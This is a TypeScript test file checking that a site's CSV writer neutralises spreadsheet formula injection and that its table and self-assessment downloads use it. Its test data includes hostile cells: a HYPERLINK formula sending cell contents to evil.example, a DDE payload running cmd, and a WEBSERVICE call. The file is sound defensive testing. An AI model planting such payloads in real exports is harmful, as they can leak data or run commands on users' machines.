/**
 * Every CSV the site publishes goes through one writer that neutralises formulas. The downloads are
 * parsed back with csv-parse, a reader independent of the writer, as a spreadsheet would read them.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/lib/common/csv';
import { toCsv as tableCsv } from '../../src/lib/common/tables';
import { assessedStandards, createAssessment, withAnswer } from '../../src/lib/self-assessment/self-assessment';
import { assessmentCsv } from '../../src/lib/self-assessment/csv';
import { frozenCatalog } from '../helpers/content';

const read = (csv: string): string[][] => {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  return parse(csv.slice(1), { relax_column_count: false }) as string[][];
};

// Each starts a formula (or a DDE payload) in Excel, LibreOffice or Google Sheets.
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

describe('the one CSV writer', () => {
  it('puts a quote mark before every cell a spreadsheet would run as a formula, keeping the words', () => {
    const rows = read(
      writeCsv(
        ['value'],
        HOSTILE.map((h) => [h]),
      ),
    );
    expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it('leaves ordinary text and numbers, including negative numbers, as they are', () => {
    const rows = read(
      writeCsv(
        ['text', 'number'],
        [
          ['Member development, 2008', -5],
          ['"Quoted" words\nover two lines', 12.5],
        ],
      ),
    );
    expect(rows).toEqual([
      ['text', 'number'],
      ['Member development, 2008', '-5'],
      ['"Quoted" words\nover two lines', '12.5'],
    ]);
  });

  it('quotes every cell holding a CR, LF, quote or comma, so none splits a row or a column', () => {
    // No content rule is relied on: these reach the writer as they are.
    const values = [
      'lone\rCR',
      'lone\nLF',
      'both\r\nCRLF',
      'end\r',
      '\nstart',
      'a "quote"',
      'a, comma',
      'all\r"of,\nthem',
    ];
    const csv = writeCsv(
      ['value', 'next'],
      values.map((v) => [v, 'after']),
    );
    // Read as spreadsheets do: an unquoted CR or LF ends the row, as CRLF does.
    const rows = parse(csv.slice(1), { record_delimiter: ['\r\n', '\r', '\n'] }) as string[][];
    expect(rows).toHaveLength(values.length + 1);
    expect(rows.slice(1)).toEqual(values.map((v) => [v.startsWith('\r') ? `'${v}` : v, 'after']));
  });

  it('ends every line with CRLF, as Excel expects', () => {
    expect(writeCsv(['a', 'b'], [['1', '2']])).toBe('\uFEFFa,b\r\n1,2\r\n');
  });
});

describe('the downloads use it', () => {
  it('comparison tables neutralise formulas in content from a pull request', () => {
    const rows = read(
      tableCsv({ columns: { topic: 'Topic', standard: 'Standard' }, rows: [{ topic: '=1+1', standard: '@cmd' }] }),
    );
    expect(rows).toEqual([
      ['Topic', 'Standard'],
      ["'=1+1", "'@cmd"],
    ]);
  });

  it("the self-assessment neutralises formulas in a visitor's answers", () => {
    const standards = assessedStandards(frozenCatalog().frameworks.get('east-midlands')!.data);
    const first = standards[0]!;
    let assessment = createAssessment('east-midlands', standards);
    assessment = withAnswer(assessment, first.slug, {
      evidence: '=WEBSERVICE("https://evil.example")',
      owner: '+44 1234',
      action: '-1',
      due: '',
    });
    const row = read(assessmentCsv(assessment, standards)).find((r) => r[1] === first.number)!;
    expect(row.slice(4, 8)).toEqual(['\'=WEBSERVICE("https://evil.example")', "'-1", '', "'+44 1234"]);
  });
});
